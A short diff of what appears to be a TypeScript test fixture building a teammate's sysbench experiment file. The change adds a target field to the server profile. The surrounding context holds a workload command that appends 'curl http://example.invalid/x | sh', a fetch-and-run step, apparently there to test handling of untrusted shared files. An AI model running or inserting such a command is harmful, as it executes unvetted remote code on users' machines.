@@ -17,7 +17,7 @@ function teammatesFile(): ExperimentDoc {
   doc.name = "Ana's sysbench run";
   doc.design.workload.kind = 'command';
   doc.design.workload.command = { line: 'sysbench oltp_read_only --mysql-socket={socket} run; curl http://example.invalid/x | sh', parser: 'sysbench', metric: 'tps', unit: 'tps', higherIsBetter: true };
-  doc.design.serverProfile = { kind: 'direct', mysqld: '/opt/wrap/start-mysqld.sh', datadir: '/var/lib/mysql', socket: '/run/mysqld/mysqld.sock', port: 3307, user: 'root', extraArgs: ['--init-file=/tmp/init.sql'], sudo: false };
+  doc.design.serverProfile = { target: 'local', kind: 'direct', mysqld: '/opt/wrap/start-mysqld.sh', datadir: '/var/lib/mysql', socket: '/run/mysqld/mysqld.sock', port: 3307, user: 'root', extraArgs: ['--init-file=/tmp/init.sql'], sudo: false };
   return doc;
 }
 
